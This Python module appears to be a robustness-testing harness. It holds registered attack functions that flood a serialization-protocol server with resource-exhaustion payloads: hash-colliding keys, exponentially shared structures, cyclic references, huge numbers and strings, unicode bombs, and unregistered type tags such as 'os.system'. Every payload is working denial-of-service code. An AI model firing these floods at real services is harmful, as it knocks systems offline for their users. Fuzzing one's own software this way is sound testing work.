"""Values that cost more than they weigh."""

from typing import Any

from attack.registry import attack
from attack.target import Line, Target
from attack.wire import LIST, Raw, call, head, item, text

# Of the type that Python hashes all multiples of this to 0.
_MODULUS = 2**61 - 1


def _flood(line: Line, message: bytes) -> None:
    """Send the same again and again."""
    batch = message * max(1, 65_536 // len(message))
    while True:
        line.send(batch)


@attack()
def shared_tuple_keys(t: Target) -> None:
    """Tuples of two shared tuples, 60 levels, as a key: hashing it once takes 2 to the 60 steps."""
    value: Any = [b"reference", 1, [b"tuple", 1, 2]]
    for level in range(2, 60):
        value = [b"reference", level, [b"tuple", value, [b"dereference", level - 1]]]
    _flood(t.pb(), call(b"echo", [b"dictionary", [value, 1]]))


@attack()
def shared_tuples_compared(t: Target) -> None:
    """Two keys that are equal, and shared 20 levels deep, so that comparing them takes long."""
    keys = []
    for start in (0, 100):
        value: Any = [b"reference", start + 1, [b"tuple", 1.0, 2]]
        for level in range(start + 2, start + 20):
            value = [b"reference", level, [b"tuple", value, [b"dereference", level - 1]]]
        keys.append([value, 1])
    _flood(t.pb(), call(b"echo", [b"dictionary", *keys]))


@attack()
def colliding_keys(t: Target) -> None:
    """Dictionaries with 20,000 keys that have the same hash."""
    pairs = [[number * _MODULUS, 1] for number in range(20_000)]
    _flood(t.pb(), call(b"echo", [b"dictionary", *pairs]))


@attack()
def colliding_sets(t: Target) -> None:
    """Sets and frozensets with up to 64 members of one hash, 500 of them in a call."""
    members = [number * _MODULUS for number in range(64)]
    values = [[b"frozenset", *members], [b"set", *members]] * 250
    _flood(t.pb(), call(b"echo", *values))


@attack()
def cyclic_bombs(t: Target) -> None:
    """Lists in themselves, tuples in themselves, and a thousand references to each."""
    back = [b"dereference", 1]
    loops = [b"reference", 1, [b"list", *[back] * 1_000]]
    knot = [b"reference", 2, [b"tuple", [b"dereference", 2], [b"dereference", 2]]]
    key = [b"reference", 3, [b"dictionary", [[b"tuple", [b"dereference", 3]], 1]]]
    line = t.pb()
    while True:
        for value in (loops, knot, key):
            line.send(call(b"echo", value) * 10)


@attack()
def shared_lists(t: Target) -> None:
    """Lists of lists of lists, each ten times by sharing: who walks them takes 10**40 steps."""
    value: Any = [b"reference", 1, [b"list", 1]]
    for level in range(2, 40):
        value = [b"reference", level, [b"list", value, *[[b"dereference", level - 1]] * 9]]
    _flood(t.pb(), call(b"sink", value) + call(b"echo", value))


@attack()
def duplicate_ids(t: Target) -> None:
    """One number defined twice, used before it is defined, and never defined."""
    line = t.pb()
    values = [
        [b"list", [b"reference", 1, [b"list"]], [b"reference", 1, [b"list"]]],
        [b"list", [b"dereference", 1], [b"reference", 1, [b"list"]]],
        [b"dereference", 2**400],
        [b"reference", [b"list"], [b"list"]],
    ]
    _flood(line, b"".join(call(b"echo", value) for value in values))


@attack()
def huge_integers(t: Target) -> None:
    """Integers of 448 bits, 20,000 to the call; then one of 449, on the next connection."""
    line = t.pb()
    message = call(b"echo", [b"list", *[2**448 - 1, -(2**448 - 1)] * 10_000])
    for _ in range(20):
        line.send(message)
    line.send(b"\x01" * 65 + b"\x85")
    line.drain()


@attack()
def unicode_bombs(t: Target) -> None:
    """Texts of 640 KB of which one character makes each of the others take four bytes."""
    value = [b"unicode", b"x" * 655_000 + "\U0001f600".encode()]
    message = call(b"sink", *[value] * 25)
    broken = call(b"sink", [b"unicode", b"\xed\xa0\x80" * 200_000])
    _flood(t.pb(), message + broken)


@attack()
def numbers_as_strings(t: Target) -> None:
    """Dates and decimals with 600,000 digits, or with exponents like that."""
    digits = b"9" * 600_000
    values = [
        [b"datetime", digits + b" 1 1 1 1 1 1"],
        [b"date", b"1 " * 300_000],
        [b"timedelta", b"1 2 " + digits],
        [b"decimal", 1, 2**400],
        [b"decimal", 2**447, 10**9],
        [b"decimal", 1, -(10**18)],
    ]
    line = t.pb()
    while True:
        for value in values:
            line.send(call(b"echo", value) + call(b"echo", [b"dictionary", [value, 1]]))


@attack()
def unjellyable_tags(t: Target) -> None:
    """Types that nobody registered: modules, classes, functions, instances, tags of 600 KB."""
    tags = [b"os.system", b"subprocess.Popen", b"x" * 600_000, b"a." * 300_000, b"\xff" * 1000]
    values: list[Any] = [[tag, [b"dictionary"]] for tag in tags]
    for kind in (b"class", b"module", b"function", b"method", b"instance", b"persistent"):
        values.append([kind, b"os.system", [b"dictionary"], 1])
    values += [[], [1], [[b"list"]], [b"unpersistable", b"x" * 600_000]]
    line = t.pb()
    while True:
        for value in values:
            line.send(call(b"echo", value))


@attack()
def copy_flood(t: Target) -> None:
    """100,000 copies in a call, which all share one state of 1,000 entries."""
    entries = [[text(f"name{number}"), number] for number in range(1_000)]
    first = item([b"app.Item", [b"reference", 1, [b"dictionary", *entries]]])
    more = item([b"app.Item", [b"dereference", 1]])
    count = 100_000
    values = Raw(head(LIST, count + 2) + item(b"list") + first + more * count)
    _flood(t.pb(), call(b"sink", values))


@attack()
def copies(t: Target) -> None:
    """As many small copies as go into one message."""
    one = item([b"app.Item", [b"dictionary", [text("n"), 1]]])
    values = Raw(head(LIST, 100_001) + item(b"list") + one * 100_000)
    _flood(t.pb(), call(b"sink", values))


@attack()
def long_keys(t: Target) -> None:
    """Keyword arguments and keys of states with names of 600 KB, another one each time."""
    line = t.pb()
    number = 0
    while True:
        number += 1
        name = text(f"{number:09d}" + "k" * 600_000)
        line.send(call(b"sink", [b"app.Item", [b"dictionary", [name, 1]]]))
        fields = [b"message", 1, b"root", b"echo", 1, [b"tuple"], [b"dictionary", [name, 1]]]
        line.send(item(fields))
